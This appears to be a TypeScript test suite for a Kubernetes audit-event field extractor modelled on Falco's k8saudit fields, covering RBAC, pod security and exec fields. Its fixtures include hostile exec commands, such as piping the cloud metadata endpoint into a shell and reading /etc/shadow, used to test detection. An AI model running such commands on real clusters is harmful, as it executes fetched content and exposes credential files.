import {
  baseEvent,
  podCreate,
  podSpec,
  workloadCreate,
} from '../../../test/detection/engine/events';
import { EventView } from './event-view';
import { FIELDS, bindField, imageRepository } from './fields';

function extract(key: string, event: Record<string, unknown>, cluster = 'prod'): unknown {
  const m = /^([^[]+)(?:\[(.*)\])?$/.exec(key)!;
  return bindField(m[1], m[2]).extract(new EventView(event, cluster));
}

const binding = baseEvent({
  objectRef: { resource: 'clusterrolebindings', name: 'b', apiGroup: 'rbac.authorization.k8s.io' },
  requestObject: {
    kind: 'ClusterRoleBinding',
    roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [
      { kind: 'User', name: 'carol' },
      { kind: 'ServiceAccount', name: 'deployer', namespace: 'ci' },
      { kind: 'Group', name: 'ops' },
    ],
  },
});
const role = baseEvent({
  objectRef: { resource: 'clusterroles', name: 'r' },
  requestObject: {
    rules: [
      { apiGroups: [''], resources: ['pods', 'pods/exec'], verbs: ['get', 'create'] },
      { nonResourceURLs: ['/metrics'], verbs: ['get'] },
    ],
  },
});
const service = baseEvent({
  objectRef: { resource: 'services', name: 's', namespace: 'default' },
  requestObject: { spec: { type: 'NodePort', ports: [{ port: 80, nodePort: 30080 }] } },
});
const configmap = baseEvent({
  objectRef: { resource: 'configmaps', name: 'cm', namespace: 'default' },
  requestObject: { data: { 'app.properties': 'password = x' } },
});
const pod = podCreate();
/** kubectl exec: one command parameter per word, "+" for a space, %XX for the rest. */
const execEvent = baseEvent({
  verb: 'create',
  requestURI:
    '/api/v1/namespaces/x/pods/y/exec?command=sh&command=-c&command=curl+http%3A%2F%2F169.254.169.254%2F+%7C+sh&container=c&stdin=true',
  objectRef: { resource: 'pods', subresource: 'exec', namespace: 'x', name: 'y' },
});

/** Every field of the table, with the event it is read from and the value expected. */
const EXPECTED: [string, Record<string, unknown>, unknown][] = [
  ['ka.auditid', pod, 'a1b2c3'],
  ['ka.stage', pod, 'ResponseComplete'],
  ['ka.auth.decision', pod, 'allow'],
  ['ka.auth.reason', pod, 'RBAC: allowed by ClusterRoleBinding "admin"'],
  ['ka.auth.openshift.decision', pod, 'allow'],
  ['ka.auth.openshift.username', pod, 'kube:admin'],
  ['ka.validations.admission.policy.failure', pod, '[{"message":"denied"}]'],
  ['ka.security.pod.violations', pod, 'privileged (container "app" must not set privileged=true)'],
  ['ka.user.name', pod, 'alice'],
  ['ka.user.groups', pod, ['dev', 'system:authenticated']],
  ['ka.impuser.name', pod, 'bob'],
  ['ka.verb', pod, 'create'],
  [
    'ka.uri',
    pod,
    '/api/v1/namespaces/default/pods?fieldManager=kubectl-client-side-apply&dryRun=All',
  ],
  ['ka.uri.param[dryRun]', pod, 'All'],
  ['ka.exec.command', execEvent, 'sh -c curl http://169.254.169.254/ | sh'],
  ['ka.exec.args', execEvent, ['sh', '-c', 'curl http://169.254.169.254/ | sh']],
  ['ka.target.name', pod, 'web'],
  ['ka.target.namespace', pod, 'default'],
  ['ka.target.resource', pod, 'pods'],
  ['ka.target.subresource', pod, undefined],
  ['ka.target.pod.name', pod, 'web'],
  [
    'ka.req.binding.subjects',
    binding,
    [
      '{"kind":"User","name":"carol"}',
      '{"kind":"ServiceAccount","name":"deployer","namespace":"ci"}',
      '{"kind":"Group","name":"ops"}',
    ],
  ],
  ['ka.req.binding.subjects.user_names', binding, ['carol']],
  ['ka.req.binding.subjects.serviceaccount_names', binding, ['deployer']],
  ['ka.req.binding.subjects.serviceaccount_ns_names', binding, ['ci:deployer']],
  ['ka.req.binding.subjects.group_names', binding, ['ops']],
  ['ka.req.binding.role', binding, 'cluster-admin'],
  ['ka.req.binding.subject.has_name[carol]', binding, 'true'],
  ['ka.req.configmap.name', configmap, 'cm'],
  ['ka.req.configmap.obj', configmap, '{"app.properties":"password = x"}'],
  ['ka.req.pod.containers.name', pod, ['app', 'sidecar', 'init', 'debugger']],
  [
    'ka.req.pod.containers.image',
    pod,
    [
      'registry.example.com/team/app:1.2@sha256:abc',
      'busybox',
      'alpine:3',
      'nicolaka/netshoot:latest',
    ],
  ],
  [
    'ka.req.pod.containers.image.repository',
    pod,
    ['registry.example.com/team/app', 'busybox', 'alpine', 'nicolaka/netshoot'],
  ],
  ['ka.req.pod.containers.command', pod, ['/bin/sh', '-c', 'bash']],
  ['ka.req.pod.containers.args', pod, ['sleep 3600']],
  ['ka.req.pod.containers.privileged', pod, ['true', 'false']],
  ['ka.req.pod.containers.allow_privilege_escalation', pod, ['true']],
  ['ka.req.pod.containers.read_only_fs', pod, ['false']],
  ['ka.req.pod.containers.run_as_user', pod, ['0']],
  ['ka.req.pod.containers.eff_run_as_user', pod, ['0', '1000', '1000', '1000']],
  ['ka.req.pod.containers.run_as_group', pod, ['10']],
  ['ka.req.pod.containers.eff_run_as_group', pod, ['3000', '10', '3000', '3000']],
  ['ka.req.pod.containers.proc_mount', pod, ['Unmasked']],
  ['ka.req.pod.containers.add_capabilities', pod, ['NET_ADMIN', 'SYS_TIME', 'CHOWN']],
  ['ka.req.pod.containers.host_port', pod, ['80', '9090']],
  ['ka.req.pod.initContainers.name', pod, ['init']],
  ['ka.req.pod.initContainers.image', pod, ['alpine:3']],
  ['ka.req.pod.initContainers.image.repository', pod, ['alpine']],
  ['ka.req.pod.initContainers.command', pod, undefined],
  ['ka.req.pod.initContainers.args', pod, undefined],
  ['ka.req.pod.initContainers.privileged', pod, ['false']],
  ['ka.req.pod.initContainers.allow_privilege_escalation', pod, undefined],
  ['ka.req.pod.initContainers.read_only_fs', pod, undefined],
  ['ka.req.pod.initContainers.run_as_user', pod, undefined],
  ['ka.req.pod.initContainers.eff_run_as_user', pod, ['1000']],
  ['ka.req.pod.initContainers.run_as_group', pod, undefined],
  ['ka.req.pod.initContainers.eff_run_as_group', pod, ['3000']],
  ['ka.req.pod.initContainers.proc_mount', pod, undefined],
  ['ka.req.pod.initContainers.add_capabilities', pod, ['CHOWN']],
  ['ka.req.pod.initContainers.host_port', pod, undefined],
  ['ka.req.pod.ephemeralContainers.name', pod, ['debugger']],
  ['ka.req.pod.ephemeralContainers.image', pod, ['nicolaka/netshoot:latest']],
  ['ka.req.pod.ephemeralContainers.image.repository', pod, ['nicolaka/netshoot']],
  ['ka.req.pod.ephemeralContainers.command', pod, ['bash']],
  ['ka.req.pod.ephemeralContainers.args', pod, undefined],
  ['ka.req.pod.ephemeralContainers.privileged', pod, undefined],
  ['ka.req.pod.ephemeralContainers.allow_privilege_escalation', pod, undefined],
  ['ka.req.pod.ephemeralContainers.read_only_fs', pod, undefined],
  ['ka.req.pod.ephemeralContainers.run_as_user', pod, undefined],
  ['ka.req.pod.ephemeralContainers.eff_run_as_user', pod, ['1000']],
  ['ka.req.pod.ephemeralContainers.run_as_group', pod, undefined],
  ['ka.req.pod.ephemeralContainers.eff_run_as_group', pod, ['3000']],
  ['ka.req.pod.ephemeralContainers.proc_mount', pod, undefined],
  ['ka.req.pod.ephemeralContainers.add_capabilities', pod, undefined],
  ['ka.req.pod.ephemeralContainers.host_port', pod, undefined],
  ['ka.req.container.image', pod, 'registry.example.com/team/app:1.2@sha256:abc'],
  ['ka.req.container.image.repository', pod, 'registry.example.com/team/app'],
  ['ka.req.pod.host_ipc', pod, 'true'],
  ['ka.req.pod.host_network', pod, 'true'],
  ['ka.req.container.host_network', pod, 'true'],
  ['ka.req.pod.host_pid', pod, 'false'],
  ['ka.req.container.privileged', pod, 'true'],
  ['ka.req.pod.run_as_user', pod, '1000'],
  ['ka.req.pod.run_as_group', pod, '3000'],
  ['ka.req.pod.fs_group', pod, '2000'],
  ['ka.req.pod.supplemental_groups', pod, ['4000', '5000']],
  [
    'ka.req.role.rules',
    role,
    [
      '{"apiGroups":[""],"resources":["pods","pods/exec"],"verbs":["get","create"]}',
      '{"nonResourceURLs":["/metrics"],"verbs":["get"]}',
    ],
  ],
  ['ka.req.role.rules.apiGroups', role, ['']],
  ['ka.req.role.rules.nonResourceURLs', role, ['/metrics']],
  ['ka.req.role.rules.verbs', role, ['get', 'create', 'get']],
  ['ka.req.role.rules.resources', role, ['pods', 'pods/exec']],
  ['ka.req.service.type', service, 'NodePort'],
  ['ka.req.service.ports', service, ['{"port":80,"nodePort":30080}']],
  ['ka.req.pod.volumes.hostpath', pod, ['/etc/kubernetes']],
  ['ka.req.volume.hostpath[/etc/kubernetes]', pod, 'true'],
  ['ka.req.pod.volumes.flexvolume_driver', pod, ['example/lvm']],
  ['ka.req.pod.volumes.volume_type', pod, ['hostPath', 'flexVolume', 'emptyDir']],
  ['ka.resp.name', pod, 'web'],
  ['ka.response.code', pod, '201'],
  [
    'ka.response.reason',
    baseEvent({ responseStatus: { code: 403, reason: 'Forbidden' } }),
    'Forbidden',
  ],
  ['ka.useragent', pod, 'kubectl/v1.29.0'],
  ['ka.sourceips', pod, ['10.0.0.1', '10.0.0.2']],
  ['ka.cluster.name', pod, 'prod'],
  ['json.value[/objectRef/namespace]', pod, 'default'],
  ['json.obj', baseEvent({ a: 1 }), JSON.stringify(baseEvent({ a: 1 }), null, 2)],
  ['json.rawtime', pod, '1714557600223456000'],
  ['jevt.value[/user/groups/0]', pod, 'dev'],
  ['jevt.obj', { auditID: 'x' }, '{\n  "auditID": "x"\n}'],
  ['jevt.rawtime', pod, '1714557600223456000'],
  ['jevt.time', pod, '2024-05-01T10:00:00.223456000Z'],
  ['jevt.time.iso8601', pod, '2024-05-01T10:00:00.223456000Z'],
];

describe('field table', () => {
  it.each(EXPECTED)('%s', (key, event, expected) => {
    expect(extract(key, event)).toEqual(expected);
  });

  it('has an expectation for every field, and no field twice', () => {
    const tested = new Set(EXPECTED.map(([key]) => key.replace(/\[.*$/, '')));
    expect(FIELDS.map((f) => f.name).filter((n) => !tested.has(n))).toEqual([]);
    expect(new Set(FIELDS.map((f) => f.name)).size).toBe(FIELDS.length);
  });

  it('marks list fields as lists and gives each a path and a description', () => {
    for (const f of FIELDS) {
      expect(f.paths.length).toBeGreaterThan(0);
      expect(f.description.length).toBeGreaterThan(10);
    }
    expect(FIELDS.find((f) => f.name === 'ka.user.groups')?.list).toBe(true);
    expect(FIELDS.find((f) => f.name === 'ka.user.name')?.list).toBe(false);
  });
});

describe('Falco extraction details', () => {
  it('reports absent scalars and empty lists as not available, as the plugin does', () => {
    const e = baseEvent({ user: { username: 'a', groups: [] } });
    expect(extract('ka.user.groups', e)).toBeUndefined();
    expect(extract('ka.req.pod.containers.image', e)).toBeUndefined();
    expect(extract('ka.req.container.privileged', e)).toBeUndefined();
  });

  it('turns JSON values into strings as jsonValueAsString does', () => {
    const e = baseEvent({
      requestObject: {
        spec: { hostNetwork: false, containers: [{ securityContext: { runAsUser: 0 } }] },
      },
    });
    expect(extract('ka.req.pod.host_network', e)).toBe('false');
    expect(extract('ka.req.pod.containers.run_as_user', e)).toEqual(['0']);
    expect(extract('jevt.value[/requestObject/spec]', e)).toBe(
      '{"hostNetwork":false,"containers":[{"securityContext":{"runAsUser":0}}]}',
    );
  });

  it('takes an index argument on indexed list fields', () => {
    expect(extract('ka.req.pod.containers.image[1]', pod)).toEqual(['busybox']);
    expect(extract('ka.req.pod.containers.image[9]', pod)).toBeUndefined();
    expect(extract('ka.sourceips[0]', pod)).toEqual(['10.0.0.1']);
    expect(() => bindField('ka.req.pod.containers.image', 'x')).toThrow(/numeric index/);
  });

  it('checks arguments: none where none is taken, required keys', () => {
    expect(() => bindField('ka.user.name', 'x')).toThrow(/takes no argument/);
    expect(() => bindField('ka.uri.param', undefined)).toThrow(/requires an argument/);
    expect(() => bindField('jevt.value', undefined)).toThrow(/requires an argument/);
    expect(() => bindField('ka.no.such', undefined)).toThrow(/unknown field 'ka.no.such'/);
  });

  it('matches ka.req.volume.hostpath[prefix*] by prefix and reports false otherwise', () => {
    expect(extract('ka.req.volume.hostpath[/etc*]', pod)).toBe('true');
    expect(extract('ka.req.volume.hostpath[/etc]', pod)).toBe('false');
  });

  it('splits image repositories exactly as upstream (a registry port is cut too)', () => {
    expect(imageRepository('nginx:1.25')).toBe('nginx');
    expect(imageRepository('nginx@sha256:abc')).toBe('nginx');
    expect(imageRepository('localhost:5000/app:1')).toBe('localhost');
  });

  it('reads JSON pointers with ~0 and ~1 escapes', () => {
    expect(extract('jevt.value[/annotations/authorization.k8s.io~1decision]', pod)).toBe('allow');
    expect(extract('jevt.value[annotations/authorization.k8s.io~1decision]', pod)).toBe('allow');
    expect(extract('jevt.value[/nothing/here]', pod)).toBeUndefined();
  });

  it('ka.target.pod.name is only set when the target is a pod', () => {
    expect(
      extract(
        'ka.target.pod.name',
        baseEvent({ objectRef: { resource: 'pods', name: 'p', subresource: 'exec' } }),
      ),
    ).toBe('p');
    expect(
      extract('ka.target.pod.name', baseEvent({ objectRef: { resource: 'secrets', name: 's' } })),
    ).toBeUndefined();
  });
});

describe('ka.exec.command and ka.exec.args (our extension)', () => {
  const at = (requestURI: string) => baseEvent({ requestURI });

  it('reads every command parameter, where ka.uri.param[command] reads the first', () => {
    expect(extract('ka.uri.param[command]', execEvent)).toBe('sh');
    expect(extract('ka.exec.args[2]', execEvent)).toEqual(['curl http://169.254.169.254/ | sh']);
    expect(extract('ka.exec.args[3]', execEvent)).toBeUndefined();
  });

  it('decodes any percent-encoding, in either case, and "+" as a space', () => {
    const e = at(
      '/api/v1/namespaces/x/pods/y/exec?command=%63at&command=%2fetc%2Fshadow&command=a%20b+c&command=%26%3D%2B',
    );
    expect(extract('ka.exec.command', e)).toBe('cat /etc/shadow a b c &=+');
    expect(extract('ka.exec.args', e)).toEqual(['cat', '/etc/shadow', 'a b c', '&=+']);
  });

  it('reads exec through the kubelet API (nodes/proxy) the same way', () => {
    const e = at(
      '/api/v1/nodes/n1/proxy/exec/shop/api-1/app?command=curl&command=http%3A%2F%2F169.254.169.254%2F&output=1',
    );
    expect(extract('ka.exec.command', e)).toBe('curl http://169.254.169.254/');
  });

  it("reads the kubelet /run endpoint's cmd parameter, split at spaces as the kubelet does", () => {
    const e = at('/api/v1/nodes/n1/proxy/run/shop/api-1/app?cmd=cat+%2Fetc%2Fshadow');
    expect(extract('ka.exec.command', e)).toBe('cat /etc/shadow');
    expect(extract('ka.exec.args', e)).toEqual(['cat', '/etc/shadow']);
    expect(
      extract('ka.exec.command', at('/api/v1/namespaces/x/configmaps?cmd=ls')),
    ).toBeUndefined();
  });

  it('is absent without a command parameter (attach, other requests, no query)', () => {
    expect(
      extract('ka.exec.command', at('/api/v1/namespaces/x/pods/y/attach?container=c&stdin=true')),
    ).toBeUndefined();
    expect(extract('ka.exec.args', at('/api/v1/namespaces/x/pods'))).toBeUndefined();
    expect(extract('ka.exec.command', baseEvent({ requestURI: undefined }))).toBeUndefined();
  });

  it('keeps an empty argument', () => {
    expect(extract('ka.exec.args', at('/x/exec?command=echo&command='))).toEqual(['echo', '']);
    expect(extract('ka.exec.command', at('/x/exec?command=echo&command='))).toBe('echo ');
  });
});

describe('pod specs beyond Pod create (our extension)', () => {
  const spec = podSpec();
  it.each([
    ['deployments', 'Deployment'],
    ['daemonsets', 'DaemonSet'],
    ['statefulsets', 'StatefulSet'],
    ['replicasets', 'ReplicaSet'],
    ['jobs', 'Job'],
    ['replicationcontrollers', 'ReplicationController'],
    ['cronjobs', 'CronJob'],
  ])('reads the template of %s', (resource, kind) => {
    const e = workloadCreate(resource, kind, spec);
    expect(extract('ka.req.pod.containers.privileged', e)).toEqual(['true', 'false']);
    expect(extract('ka.req.pod.host_network', e)).toBe('true');
    expect(extract('ka.req.pod.volumes.hostpath', e)).toEqual(['/etc/kubernetes']);
  });

  it('reads a strategic-merge patch body with the template shape', () => {
    const e = baseEvent({
      verb: 'patch',
      objectRef: { resource: 'deployments', name: 'web', namespace: 'default', apiGroup: 'apps' },
      requestObject: {
        spec: {
          template: {
            spec: { containers: [{ name: 'app', securityContext: { privileged: true } }] },
          },
        },
      },
    });
    expect(extract('ka.req.pod.containers.privileged', e)).toEqual(['true']);
  });

  it('does not read JSON-patch arrays', () => {
    const e = baseEvent({
      verb: 'patch',
      objectRef: { resource: 'pods', name: 'web', namespace: 'default' },
      requestObject: [
        { op: 'add', path: '/spec/containers/0/securityContext', value: { privileged: true } },
      ],
    });
    expect(extract('ka.req.pod.containers.privileged', e)).toBeUndefined();
  });

  it('reads a PodTemplate template', () => {
    const e = baseEvent({
      objectRef: { resource: 'podtemplates', name: 't' },
      requestObject: { template: { spec } },
    });
    expect(extract('ka.req.pod.containers.name', e)).toEqual([
      'app',
      'sidecar',
      'init',
      'debugger',
    ]);
  });
});
